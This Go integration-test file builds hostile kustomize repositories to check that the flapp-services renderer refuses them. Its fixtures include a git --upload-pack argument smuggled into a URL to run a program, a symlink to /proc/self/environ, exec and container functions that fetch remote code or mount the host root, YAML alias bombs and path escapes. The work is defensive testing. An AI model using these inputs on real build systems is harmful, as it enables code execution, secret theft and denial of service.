package hostile

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"

	h "github.com/fedlearner/flapp-services/test/integration/internal/harness"
)

// kcase is one hostile repository. Its files and links are relative to the
// repository ("../x" lies beside it, in the case's directory); contents and
// link targets may hold placeholders:
//
//	{{ADDR}}    the listener, 127.0.0.1:<port>
//	{{CASE}}    the case's directory (absolute); the repository is {{CASE}}/repo
//	{{CANARY}}  the absolute canary script
//	{{SECRET}}  the secret marker (also in every file outside the repository)
//	{{REPO}}    the repository (absolute)
//
// want are substrings stderr must hold in the render modes, where {app} is
// the Application's directory and {root} the repository root, each as the
// mode names it from its working directory ("" or "dir/").
type kcase struct {
	name, family string
	app          string // the Application's directory in the repository; "" is the root
	files        map[string]string
	links        map[string]string
	gen          func(e *hostileEnv) error // large or special trees
	exit         int                       // of the render modes: 1 refused, 0 a legitimate control
	want         []string                  // on stderr (render modes)
	stdout       []string                  // on stdout (render modes; controls)
	heavy        bool                      // may hold hundreds of MiB before the fix
	// realGit leaves the fake git out of PATH: the machine's git, if any,
	// is what kustomize would find (it runs the canary, reaches the
	// listener).
	realGit bool
	// oracle pairs two cases whose refusals must read the same but for
	// oracleName: one names a path outside that exists, one that does not.
	oracle, oracleName string
}

// What the budget refusals say: the word of every ceiling message.
const ceilingWord = "ceiling"

const (
	cmYAML    = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: cm}\ndata: {k: v}\n"
	flappYAML = `apiVersion: fedlearner.k8s.io/v1alpha1
kind: FLApp
metadata: {name: hostile}
spec:
  role: Leader
  flReplicaSpecs:
    Master: {replicas: 1, template: {spec: {containers: [{name: tensorflow}]}}}
    Worker: {replicas: 2, pair: true, template: {spec: {containers: [{name: tensorflow}]}}}
`
	// The function's own entry, the container form of the examples.
	fnEntryYAML = `apiVersion: v1
kind: ConfigMap
metadata:
  name: flapp-services
  annotations:
    config.kubernetes.io/function: |
      container:
        image: ghcr.io/fedlearner/flapp-services:v0.1.0
data: {ownerReferences: Never}
`
	// A git repository on the listener, in kustomize's remote forms.
	remoteHTTP   = "http://{{ADDR}}/org/repo.git//x?ref=main"
	remoteHTTPS  = "https://{{ADDR}}/org/repo.git//x?ref=main"
	remoteSSH    = "ssh://git@{{ADDR}}/org/repo.git//x?ref=main"
	remoteGitHTT = "git::http://{{ADDR}}/org/repo//x?ref=main"
	remoteSCP    = "git@127.0.0.1:org/repo.git//x?ref=main"
	remoteGitHub = "github.com/org/repo//x?ref=main" // through HTTPS_PROXY, the listener
)

// inline is a generators/transformers/validators entry: YAML whose first
// key is a URL. kustomize cannot read it as an object (it has no name), so
// it loads the whole entry as a path: it clones the URL.
func inline(first, kind string) string {
	return "- |\n  " + first + ": 1\n  apiVersion: builtin\n  kind: " + kind + "\n"
}

// uploadPack is the entry that makes kustomize's git run a program.
const uploadPack = "file://{{CASE}}/nowhere.git?ref=--upload-pack={{CANARY}}%3B"

// execFn is a KRM function config running the absolute canary.
func execFn(path string) string {
	return "apiVersion: example.com/v1\nkind: Anything\nmetadata:\n  name: evil\n  annotations:\n" +
		"    config.kubernetes.io/function: |\n      exec:\n        path: " + path + "\n"
}

// aliasBomb is a billion laughs (10^levels strings) in under 1 KB, as
// the value of key, indented by indent.
func aliasBomb(key, indent string, levels int) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s%s:\n", indent, key)
	fmt.Fprintf(&b, "%s  a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n", indent)
	for i := 1; i < levels; i++ {
		p := fmt.Sprintf("*a%d", i-1)
		fmt.Fprintf(&b, "%s  a%d: &a%d [%s]\n", indent, i, i, strings.Repeat(p+", ", 9)+p)
	}
	return b.String()
}

// labelTransformers is a file of builtin LabelTransformer configs, each
// adding a label of its own, just under size bytes (the file ceiling).
func labelTransformers(prefix string, size int) string {
	var b strings.Builder
	for i := 0; b.Len() < size-200; i++ {
		fmt.Fprintf(&b, "---\napiVersion: builtin\nkind: LabelTransformer\nmetadata: {name: %s%d}\nlabels: {%s%d: v}\n"+
			"fieldSpecs: [{path: metadata/labels, create: true}]\n", prefix, i, prefix, i)
	}
	return b.String()
}

func configMaps(n int, prefix string) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: %s%d}\ndata: {k: v}\n", prefix, i)
	}
	return b.String()
}

// refusal is what every refusal's stderr names: the kustomization file and
// the entry.
func refusal(file, entry string, more ...string) []string {
	return append([]string{file, entry}, more...)
}

// kustomizeCases are every hostile repository, then the controls.
func kustomizeCases() []kcase {
	var cs []kcase
	add := func(c kcase) {
		if c.exit == 0 && c.stdout == nil {
			c.exit = 1
		}
		cs = append(cs, c)
	}
	cm := map[string]string{"cm.yaml": cmYAML}
	with := func(files map[string]string, more ...map[string]string) map[string]string {
		out := map[string]string{}
		for _, m := range append([]map[string]string{files}, more...) {
			for k, v := range m {
				out[k] = v
			}
		}
		return out
	}

	// --- A program of the attacker's choosing: git's --upload-pack.
	for _, field := range []string{"transformers", "generators", "validators"} {
		add(kcase{
			name: "upload-pack-inline-" + field, family: "exec: git --upload-pack",
			files: with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\n" + field + ":\n" +
				inline(uploadPack, "LabelTransformer")}),
			want: refusal("kustomization.yaml", field+"[0]"),
		})
	}
	add(kcase{
		name: "upload-pack-inline-transformers-real-git", family: "exec: git --upload-pack", realGit: true,
		files: with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\ntransformers:\n" +
			inline(uploadPack, "LabelTransformer")}),
		want: refusal("kustomization.yaml", "transformers[0]"),
	})
	add(kcase{
		name: "upload-pack-resource", family: "exec: git --upload-pack",
		files: with(cm, map[string]string{"kustomization.yaml": "resources:\n- cm.yaml\n- " + uploadPack + "\n"}),
		want:  refusal("kustomization.yaml", "resources[1]"),
	})
	add(kcase{
		name: "upload-pack-component", family: "exec: git --upload-pack",
		files: with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\ncomponents:\n- " + uploadPack + "\n"}),
		want:  refusal("kustomization.yaml", "components[0]"),
	})

	// --- The network: a remote base in a directory listed by generators,
	// transformers or validators (which the build builds as a kustomization).
	for _, field := range []string{"transformers", "generators", "validators"} {
		add(kcase{
			name: "remote-in-" + field + "-dir", family: "network: plugin directory",
			files: with(cm, map[string]string{
				"kustomization.yaml":     "resources: [cm.yaml]\n" + field + ": [fns]\n",
				"fns/kustomization.yaml": "resources:\n- " + remoteHTTP + "\n",
			}),
			want: refusal("fns/kustomization.yaml", "resources[0]", field+"[0]"),
		})
	}
	add(kcase{
		name: "remote-in-transformers-dir-real-git", family: "network: plugin directory", realGit: true,
		files: with(cm, map[string]string{
			"kustomization.yaml":     "resources: [cm.yaml]\ntransformers: [fns]\n",
			"fns/kustomization.yaml": "resources:\n- " + remoteHTTP + "\n",
		}),
		want: refusal("fns/kustomization.yaml", "resources[0]", "transformers[0]"),
	})
	add(kcase{
		name: "remote-in-transformers-dir-second-entry", family: "network: plugin directory",
		files: with(cm, map[string]string{
			"kustomization.yaml":     "resources: [cm.yaml]\ntransformers:\n- |\n  apiVersion: builtin\n  kind: LabelTransformer\n  metadata: {name: l}\n  labels: {a: b}\n  fieldSpecs: [{path: metadata/labels, create: true}]\n- fns\n",
			"fns/kustomization.yaml": "resources:\n- cm.yaml\n- " + remoteHTTPS + "\n",
			"fns/cm.yaml":            cmYAML,
		}),
		want: refusal("fns/kustomization.yaml", "resources[1]", "transformers[1]"),
	})
	add(kcase{
		name: "remote-in-transformers-dir-Kustomization", family: "network: plugin directory",
		files: with(cm, map[string]string{
			"kustomization.yaml": "resources: [cm.yaml]\ntransformers: [fns]\n",
			"fns/Kustomization":  "resources:\n- " + remoteSSH + "\n",
		}),
		want: refusal("fns/Kustomization", "resources[0]", "transformers[0]"),
	})
	add(kcase{
		name: "remote-component-in-transformers-dir", family: "network: plugin directory",
		files: with(cm, map[string]string{
			"kustomization.yaml":     "resources: [cm.yaml]\ntransformers: [fns]\n",
			"fns/kustomization.yaml": "components:\n- " + remoteGitHTT + "\n",
		}),
		want: refusal("fns/kustomization.yaml", "components[0]", "transformers[0]"),
	})
	add(kcase{
		name: "remote-in-transformers-symlinked-dir", family: "network: symlinked directory",
		files: with(cm, map[string]string{
			"kustomization.yaml":     "resources: [cm.yaml]\ntransformers: [fnlink]\n",
			"fns/kustomization.yaml": "resources:\n- " + remoteHTTP + "\n",
		}),
		links: map[string]string{"fnlink": "fns"},
		want:  refusal("kustomization.yaml", "transformers[0]", "resources[0]"),
	})
	add(kcase{
		name: "remote-in-generators-symlinked-chain", family: "network: symlinked directory",
		files: with(cm, map[string]string{
			"kustomization.yaml":          "resources: [cm.yaml]\ngenerators: [a]\n",
			"deep/fns/kustomization.yaml": "resources:\n- " + remoteHTTP + "\n",
		}),
		links: map[string]string{"a": "b", "b": "deep/c", "deep/c": "fns"},
		want:  refusal("kustomization.yaml", "generators[0]", "resources[0]"),
	})
	add(kcase{
		name: "remote-in-transformers-dotdot", family: "network: .. path", app: "overlays/prod",
		files: map[string]string{
			"overlays/prod/kustomization.yaml": "resources: [cm.yaml]\ntransformers: [../../fns]\n",
			"overlays/prod/cm.yaml":            cmYAML,
			"fns/kustomization.yaml":           "resources:\n- " + remoteHTTP + "\n",
		},
		want: refusal("{app}kustomization.yaml", "transformers[0]", "{root}fns/kustomization.yaml", "resources[0]"),
	})
	add(kcase{
		name: "remote-in-validators-dotdot-inside", family: "network: .. path",
		files: with(cm, map[string]string{
			"kustomization.yaml":     "resources: [cm.yaml]\nvalidators: [./sub/../fns]\n",
			"sub/.keep":              "",
			"fns/kustomization.yaml": "resources:\n- " + remoteHTTP + "\n",
		}),
		want: refusal("kustomization.yaml", "validators[0]", "fns/kustomization.yaml", "resources[0]"),
	})
	add(kcase{
		name: "remote-chain-of-bases", family: "network: plugin directory",
		files: with(cm, map[string]string{
			"kustomization.yaml":           "resources: [base]\n",
			"base/kustomization.yaml":      "resources: [cm.yaml]\ntransformers: [../fns]\n",
			"base/cm.yaml":                 cmYAML,
			"fns/kustomization.yaml":       "resources: [inner]\n",
			"fns/inner/kustomization.yaml": "resources:\n- " + remoteHTTP + "\n",
		}),
		want: refusal("inner/kustomization.yaml", "resources[0]", "base/kustomization.yaml (transformers[0])", "../fns/kustomization.yaml (resources[0])"), // each file as the one before refers to it
	})

	// --- Inline entries whose first key is a remote URL: kustomize tries
	// the entry as a path first, and clones it.
	for _, v := range []struct{ name, url, field string }{
		{"http", remoteHTTP, "transformers"},
		{"ssh", remoteSSH, "generators"},
		{"scp", remoteSCP, "transformers"},
		{"git-prefix", remoteGitHTT, "validators"},
		{"github", remoteGitHub, "generators"},
	} {
		add(kcase{
			name: "inline-remote-" + v.name + "-" + v.field, family: "network: inline entry",
			files: with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\n" + v.field + ":\n" +
				inline(v.url, "LabelTransformer")}),
			want: refusal("kustomization.yaml", v.field+"[0]"),
		})
	}

	// --- Remote resources and components in every form.
	for _, v := range []struct{ name, entry string }{
		{"http-git", remoteHTTP},
		{"git-prefix", remoteGitHTT},
		{"ssh", remoteSSH},
		{"scp", remoteSCP},
		{"github", remoteGitHub},
		{"https-file", "https://{{ADDR}}/x.yaml"},
		{"http-file", "http://{{ADDR}}/x.yaml"},
		{"proxied-file", "https://example.com/x.yaml"},
		{"file-url", "file://{{CASE}}/outside/repo.git"},
		{"padded", "  HTTP://{{ADDR}}/org/repo.git//x?ref=main"},
	} {
		add(kcase{
			name: "remote-resource-" + v.name, family: "network: remote resource",
			files: with(cm, map[string]string{"kustomization.yaml": "resources:\n- cm.yaml\n- '" + v.entry + "'\n"}),
			want:  refusal("kustomization.yaml", "resources[1]"),
		})
	}
	add(kcase{
		name: "remote-component", family: "network: remote resource",
		files: with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\ncomponents:\n- " + remoteHTTPS + "\n"}),
		want:  refusal("kustomization.yaml", "components[0]"),
	})
	add(kcase{
		name: "remote-base-of-base", family: "network: remote resource",
		files: with(cm, map[string]string{
			"kustomization.yaml":      "resources: [cm.yaml, base]\n",
			"base/kustomization.yaml": "resources:\n- " + remoteGitHub + "\n",
		}),
		want: refusal("base/kustomization.yaml", "resources[0]", "resources[1]"),
	})
	for _, v := range []struct{ name, kust, entry string }{
		{"patch", "patches:\n- path: http://{{ADDR}}/p.yaml\n", "patches[0]"},
		{"configmap-file", "configMapGenerator:\n- name: c\n  files: [http://{{ADDR}}/f.txt]\n", "configMapGenerator[0]"},
		{"openapi", "openapi:\n  path: https://{{ADDR}}/schema.json\n", "openapi"},
		{"crds", "crds: [https://{{ADDR}}/crd.yaml]\n", "crds[0]"},
		{"replacements", "replacements:\n- path: https://{{ADDR}}/r.yaml\n", "replacements[0]"},
	} {
		add(kcase{
			name: "remote-file-" + v.name, family: "network: remote file",
			files: with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\n" + v.kust}),
			want:  refusal("kustomization.yaml", v.entry),
		})
	}

	// --- Helm: the helm program, and its repositories.
	chart := map[string]string{
		"charts/evil/Chart.yaml":        "apiVersion: v2\nname: evil\nversion: 0.1.0\n",
		"charts/evil/templates/cm.yaml": cmYAML,
	}
	add(kcase{
		name: "helm-charts-local", family: "exec: helm",
		files: with(cm, chart, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\nhelmGlobals: {chartHome: charts}\n" +
			"helmCharts:\n- {name: evil, version: 0.1.0, releaseName: r}\n"}),
		want: refusal("kustomization.yaml", "helmCharts[0]"),
	})
	add(kcase{
		name: "helm-charts-remote-repo", family: "exec: helm",
		files: with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\n" +
			"helmCharts:\n- {name: evil, repo: 'http://{{ADDR}}/charts', version: 1.0.0, releaseName: r}\n"}),
		want: refusal("kustomization.yaml", "helmCharts[0]"),
	})
	add(kcase{
		name: "helm-globals-only", family: "exec: helm",
		files: with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\nhelmGlobals: {chartHome: charts, configHome: '{{CASE}}/outside'}\n"}),
		want:  refusal("kustomization.yaml", "helmGlobals"),
	})
	add(kcase{
		name: "helm-in-transformers-dir", family: "exec: helm",
		files: with(cm, map[string]string{
			"kustomization.yaml":     "resources: [cm.yaml]\ntransformers: [fns]\n",
			"fns/kustomization.yaml": "helmGlobals: {chartHome: ../charts}\nhelmCharts:\n- {name: evil, version: 0.1.0, releaseName: r}\n",
		}, chart),
		want: refusal("fns/kustomization.yaml", "helmCharts[0]", "transformers[0]"),
	})
	add(kcase{
		name: "helm-inflation-generator-legacy", family: "exec: helm",
		files: with(cm, chart, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\n" +
			"helmChartInflationGenerator:\n- {chartName: evil, chartHome: charts, releaseName: r}\n"}),
		want: refusal("kustomization.yaml", "helmChartInflationGenerator[0]"),
	})

	// --- KRM functions and plugins.
	add(kcase{
		name: "exec-fn-inline", family: "exec: KRM function",
		files: with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\ntransformers:\n- |\n" +
			indent(execFn("{{CANARY}}"), "  ")}),
		want: refusal("kustomization.yaml", "transformers[0]"),
	})
	add(kcase{
		name: "exec-fn-file-generator", family: "exec: KRM function",
		files: with(cm, map[string]string{
			"kustomization.yaml": "resources: [cm.yaml]\ngenerators: [gen.yaml]\n",
			"gen.yaml":           execFn("{{CANARY}}"),
		}),
		want: refusal("kustomization.yaml", "generators[0]"),
	})
	add(kcase{
		name: "exec-fn-in-transformers-dir", family: "exec: KRM function",
		files: with(cm, map[string]string{
			"kustomization.yaml":     "resources: [cm.yaml]\ntransformers: [fns]\n",
			"fns/kustomization.yaml": "transformers: [fn.yaml]\n",
			"fns/fn.yaml":            execFn("{{CANARY}}"),
		}),
		want: refusal("fns/kustomization.yaml", "transformers[0]"),
	})
	add(kcase{
		name: "exec-fn-in-base", family: "exec: KRM function",
		files: with(cm, map[string]string{
			"kustomization.yaml":      "resources: [cm.yaml, base]\n",
			"base/kustomization.yaml": "resources: [cm2.yaml]\ntransformers: [fn.yaml]\n",
			"base/cm2.yaml":           strings.Replace(cmYAML, "name: cm", "name: cm2", 1),
			"base/fn.yaml":            execFn("./evil.sh"),
			"base/evil.sh":            "#!/bin/sh\n: > '{{CASE}}/canary/FIRED-repo-script'\nexit 1\n",
		}),
		gen:  func(e *hostileEnv) error { return os.Chmod(filepath.Join(e.repo, "base/evil.sh"), 0o755) },
		want: refusal("base/kustomization.yaml", "transformers[0]"),
	})
	// The function's own name on someone else's program: read as the
	// render's configuration at most, never run.
	add(kcase{
		name: "exec-named-flapp-services-in-transformers-dir", family: "exec: KRM function",
		files: with(cm, map[string]string{
			"kustomization.yaml":     "resources: [cm.yaml]\ntransformers: [fns]\n",
			"fns/kustomization.yaml": "transformers: [fn.yaml]\n",
			"fns/fn.yaml":            execFn("{{CASE}}/canary/abs/flapp-services"),
		}),
		want: refusal("fns/kustomization.yaml", "transformers[0]"),
	})
	add(kcase{
		name: "container-fn", family: "exec: container engine",
		files: with(cm, map[string]string{
			"kustomization.yaml": "resources: [cm.yaml]\ntransformers: [fn.yaml]\n",
			"fn.yaml": "apiVersion: example.com/v1\nkind: Anything\nmetadata:\n  name: evil\n  annotations:\n" +
				"    config.kubernetes.io/function: |\n      container:\n        image: {{ADDR}}/evil:1\n        network: true\n" +
				"        mounts: [{type: bind, src: /, dst: /host}]\n",
		}),
		want: refusal("kustomization.yaml", "transformers[0]"),
	})
	add(kcase{
		name: "starlark-fn", family: "exec: KRM function",
		files: with(cm, map[string]string{
			"kustomization.yaml": "resources: [cm.yaml]\ntransformers: [fn.yaml]\n",
			"fn.yaml": "apiVersion: example.com/v1\nkind: Anything\nmetadata:\n  name: evil\n  annotations:\n" +
				"    config.kubernetes.io/function: |\n      starlark:\n        url: http://{{ADDR}}/script.star\n",
		}),
		want: refusal("kustomization.yaml", "transformers[0]"),
	})
	evil := "apiVersion: someteam.example.com/v1\nkind: Evil\nmetadata: {name: evil}\n"
	add(kcase{
		name: "external-plugin", family: "exec: plugin",
		files: with(cm, map[string]string{
			"kustomization.yaml": "resources: [cm.yaml]\ntransformers: [evil.yaml]\n",
			"evil.yaml":          evil,
		}),
		want: refusal("kustomization.yaml", "transformers[0]"),
	})
	add(kcase{
		name: "external-plugin-inline-generator", family: "exec: plugin",
		files: with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\ngenerators:\n- |\n" + indent(evil, "  ")}),
		want:  refusal("kustomization.yaml", "generators[0]"),
	})
	add(kcase{
		name: "external-plugin-in-transformers-dir", family: "exec: plugin",
		files: with(cm, map[string]string{
			"kustomization.yaml":     "resources: [cm.yaml]\ntransformers: [fns]\n",
			"fns/kustomization.yaml": "transformers: [evil.yaml]\n",
			"fns/evil.yaml":          evil,
		}),
		want: refusal("fns/kustomization.yaml", "transformers[0]"),
	})

	// --- Escapes out of the repository.
	for _, v := range []struct{ name, field, entry string }{
		{"transformers-dir", "transformers", "../outside"},
		{"transformers-file", "transformers", "../outside/labels.yaml"},
		{"generators-file", "generators", "../outside/generator.yaml"},
		{"validators-dir", "validators", "../outside"},
		{"transformers-absolute", "transformers", "{{CASE}}/outside/labels.yaml"},
		{"resources-dir", "resources", "../outside"},
		{"resources-absolute", "resources", "{{CASE}}/outside/secret.yaml"},
		{"components-dir", "components", "../outside"},
	} {
		add(kcase{
			name: "escape-" + v.name, family: "escape: .. or absolute",
			files: with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\n" + v.field + ":\n- " + v.entry + "\n"}),
			want:  refusal("kustomization.yaml", v.field+"[0]"),
		})
	}
	add(kcase{
		name: "escape-flapp-entry-dotdot", family: "escape: .. or absolute",
		files: with(map[string]string{"flapp.yaml": flappYAML}, map[string]string{
			"kustomization.yaml": "resources: [flapp.yaml]\ntransformers: [../outside/flapp-services.yaml]\n"}),
		want: refusal("kustomization.yaml", "transformers[0]"),
	})
	add(kcase{
		name: "escape-flapp-entry-symlink", family: "escape: symlink",
		files: with(map[string]string{"flapp.yaml": flappYAML}, map[string]string{
			"kustomization.yaml": "resources: [flapp.yaml]\ntransformers: [fn.yaml]\n"}),
		links: map[string]string{"fn.yaml": "../outside/flapp-services.yaml"},
		want:  refusal("kustomization.yaml", "transformers[0]", "fn.yaml"),
	})
	for _, v := range []struct{ name, field, target string }{
		{"transformers-dir", "transformers", "{{CASE}}/outside"},
		{"transformers-file", "transformers", "../outside/labels.yaml"},
		{"generators-file", "generators", "../outside/generator.yaml"},
		{"validators-dir", "validators", "../outside"},
	} {
		add(kcase{
			name: "escape-symlink-" + v.name, family: "escape: symlink",
			files: with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\n" + v.field + ": [out]\n"}),
			links: map[string]string{"out": v.target},
			want:  refusal("kustomization.yaml", v.field+"[0]", "out"),
		})
	}
	add(kcase{
		name: "escape-symlink-in-transformers-dir", family: "escape: symlink",
		files: with(cm, map[string]string{
			"kustomization.yaml":     "resources: [cm.yaml]\ntransformers: [fns]\n",
			"fns/kustomization.yaml": "resources: [secret]\n",
		}),
		links: map[string]string{"fns/secret": "../../outside"},
		want:  refusal("fns/kustomization.yaml", "resources[0]", "transformers[0]"),
	})
	add(kcase{
		name: "escape-kustomization-symlink", family: "escape: symlink",
		links: map[string]string{"kustomization.yaml": "../outside/kustomization.yaml"},
		want:  []string{"kustomization.yaml"},
	})
	add(kcase{
		name: "escape-configmap-file", family: "escape: .. or absolute",
		files: with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\nconfigMapGenerator:\n- name: c\n  files: [../outside/secret.yaml]\n"}),
		want:  refusal("kustomization.yaml", "configMapGenerator[0]"),
	})
	add(kcase{
		name: "escape-secret-env-symlink", family: "escape: symlink",
		files: with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\nsecretGenerator:\n- name: s\n  envs: [s.env]\n"}),
		links: map[string]string{"s.env": "../outside/secret.env"},
		want:  refusal("kustomization.yaml", "secretGenerator[0]", "s.env"),
	})
	add(kcase{
		name: "escape-proc-self-environ", family: "escape: symlink",
		files: with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\nconfigMapGenerator:\n- name: c\n  files: [env.txt]\n"}),
		links: map[string]string{"env.txt": "/proc/self/environ"},
		want:  refusal("kustomization.yaml", "configMapGenerator[0]", "env.txt"),
	})
	// An env file's line without "=" is not read from the process's
	// environment (kubectl's --from-env-file would): a token of the
	// sidecar's stays out of the render.
	add(kcase{
		name: "env-file-key-only", family: "leak: environment",
		files: with(cm, map[string]string{
			"kustomization.yaml": "resources: [cm.yaml]\nconfigMapGenerator:\n- name: c\n  envs: [vars.env]\n",
			"vars.env":           envSecretName + "\nHOME\n",
		}),
		stdout: []string{"name: c-", envSecretName + `: ""`},
	})
	// Whether a path outside exists must not show: the same message for
	// one that does (holding the secret) and one that does not.
	for _, v := range []struct{ name, field, entry string }{
		{"transformers", "transformers", "../../%s"},
		{"resources", "resources", "../../%s"},
		{"generators-file", "generators", "../../%s/kustomization.yaml"},
	} {
		for _, target := range []string{"does-not-exist", "secret-dir-that-exists"} {
			add(kcase{
				name: "oracle-" + v.name + "-" + target, family: "escape: existence oracle", app: "app",
				files: map[string]string{
					"app/kustomization.yaml": "resources: [cm.yaml]\n" + v.field + ":\n- " + fmt.Sprintf(v.entry, target) + "\n",
					"app/cm.yaml":            cmYAML,
				},
				want:   refusal("{app}kustomization.yaml", v.field+"[0]"),
				oracle: v.name, oracleName: target,
			})
		}
	}
	add(kcase{
		name: "oracle-symlink-does-not-exist", family: "escape: existence oracle",
		files:  with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\ntransformers: [out]\n"}),
		links:  map[string]string{"out": "{{CASE}}/does-not-exist"},
		want:   refusal("kustomization.yaml", "transformers[0]", "out"),
		oracle: "symlink", oracleName: "does-not-exist",
	})
	add(kcase{
		name: "oracle-symlink-secret-dir-that-exists", family: "escape: existence oracle",
		files:  with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\ntransformers: [out]\n"}),
		links:  map[string]string{"out": "{{CASE}}/secret-dir-that-exists"},
		want:   refusal("kustomization.yaml", "transformers[0]", "out"),
		oracle: "symlink", oracleName: "secret-dir-that-exists",
	})

	// --- Loops and special files.
	add(kcase{
		name: "transformers-self", family: "loop",
		files: with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\ntransformers: [.]\n"}),
		want:  refusal("kustomization.yaml", "transformers[0]"),
	})
	add(kcase{
		name: "resources-cycle", family: "loop",
		files: with(cm, map[string]string{
			"kustomization.yaml":   "resources: [a]\n",
			"a/kustomization.yaml": "resources: [../b]\n",
			"b/kustomization.yaml": "resources: [../a]\n",
		}),
		want: refusal("a/kustomization.yaml", "resources[0]"),
	})
	add(kcase{
		name: "fifo-resource", family: "special file",
		files: map[string]string{"kustomization.yaml": "resources: [pipe.yaml]\n"},
		gen: func(e *hostileEnv) error {
			return syscall.Mkfifo(filepath.Join(e.repo, "pipe.yaml"), 0o644)
		},
		want: refusal("kustomization.yaml", "resources[0]", "pipe.yaml"),
	})
	add(kcase{
		name: "fifo-in-transformers-dir", family: "special file",
		files: with(cm, map[string]string{
			"kustomization.yaml":     "resources: [cm.yaml]\ntransformers: [fns]\n",
			"fns/kustomization.yaml": "resources: [pipe.yaml]\n",
		}),
		gen: func(e *hostileEnv) error {
			return syscall.Mkfifo(filepath.Join(e.repo, "fns", "pipe.yaml"), 0o644)
		},
		want: refusal("fns/kustomization.yaml", "resources[0]"),
	})

	// --- Budgets: a few kilobytes that take the sidecar down.
	bombCM := "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: bomb}\n" + aliasBomb("x", "", 10)
	add(kcase{
		name: "alias-bomb-resource", family: "budget: alias bomb", heavy: true,
		files: map[string]string{"kustomization.yaml": "resources: [bomb.yaml]\n", "bomb.yaml": bombCM},
		want:  []string{"bomb.yaml", ceilingWord},
	})
	add(kcase{
		name: "alias-bomb-resource-in-base", family: "budget: alias bomb", heavy: true,
		files: map[string]string{
			"kustomization.yaml":      "resources: [base]\nnamePrefix: p-\n",
			"base/kustomization.yaml": "resources: [bomb.yaml]\n",
			"base/bomb.yaml":          bombCM,
		},
		want: []string{"base/bomb.yaml", ceilingWord},
	})
	add(kcase{
		name: "alias-bomb-inline-patch", family: "budget: alias bomb", heavy: true,
		files: with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\npatches:\n- patch: |\n" +
			indent("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: cm}\n"+aliasBomb("x", "", 10), "    ")}),
		want: refusal("kustomization.yaml", "patches[0]", ceilingWord),
	})
	add(kcase{
		name: "alias-bomb-patch-file", family: "budget: alias bomb", heavy: true,
		files: with(cm, map[string]string{
			"kustomization.yaml": "resources: [cm.yaml]\npatches:\n- path: patch.yaml\n",
			"patch.yaml":         "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: cm}\n" + aliasBomb("x", "", 10),
		}),
		want: refusal("kustomization.yaml", "patches[0]", ceilingWord),
	})
	add(kcase{
		name: "alias-bomb-inline-generator", family: "budget: alias bomb", heavy: true,
		files: with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\ngenerators:\n- |\n" +
			indent("apiVersion: builtin\nkind: ConfigMapGenerator\nmetadata: {name: g}\nliterals: [a=b]\n"+aliasBomb("x", "", 10), "  ")}),
		want: refusal("kustomization.yaml", "generators[0]", ceilingWord),
	})
	add(kcase{
		name: "alias-bomb-inline-transformer", family: "budget: alias bomb", heavy: true,
		files: with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\ntransformers:\n- |\n" +
			indent("apiVersion: builtin\nkind: LabelTransformer\nmetadata: {name: l}\nlabels: {a: b}\n"+
				"fieldSpecs: [{path: metadata/labels, create: true}]\n"+aliasBomb("x", "", 10), "  ")}),
		want: refusal("kustomization.yaml", "transformers[0]", ceilingWord),
	})
	add(kcase{
		name: "alias-bomb-kustomization", family: "budget: alias bomb", heavy: true,
		files: with(cm, map[string]string{"kustomization.yaml": "resources: [cm.yaml]\n" + aliasBomb("metadata", "", 10)}),
		want:  []string{"kustomization.yaml", "alias"}, // go-yaml's "excessive aliasing"
	})
	add(kcase{
		name: "alias-bomb-fn-entry", family: "budget: alias bomb", heavy: true,
		files: map[string]string{
			"kustomization.yaml": "resources: [flapp.yaml]\ntransformers: [fn.yaml]\n",
			"flapp.yaml":         flappYAML,
			"fn.yaml":            strings.TrimSuffix(fnEntryYAML, "data: {ownerReferences: Never}\n") + aliasBomb("data", "", 10),
		},
		want: []string{"kustomization.yaml", "fn.yaml"},
	})
	add(kcase{
		name: "entries-4-million", family: "budget: huge kustomization", heavy: true,
		files: map[string]string{"a": cmYAML},
		gen: func(e *hostileEnv) error {
			// 4,000,000 entries in 8,000,012 bytes, under the 8 MiB file ceiling.
			return writeFile(filepath.Join(e.repo, "kustomization.yaml"),
				"resources: ["+strings.Repeat("a,", 4_000_000-1)+"a]\n", 0o644)
		},
		want: []string{"kustomization.yaml", ceilingWord},
	})
	add(kcase{
		name: "transformers-file-8mib", family: "budget: huge kustomization", heavy: true,
		files: map[string]string{
			"kustomization.yaml": "resources: [objects.yaml]\ntransformers: [t.yaml]\n",
			"objects.yaml":       configMaps(20, "cm"),
		},
		gen: func(e *hostileEnv) error {
			return writeFile(filepath.Join(e.repo, "t.yaml"), labelTransformers("l", 8<<20), 0o644)
		},
		want: refusal("kustomization.yaml", "transformers[0]", ceilingWord),
	})
	add(kcase{
		name: "transformers-files-3x8mib", family: "budget: huge kustomization", heavy: true,
		files: map[string]string{
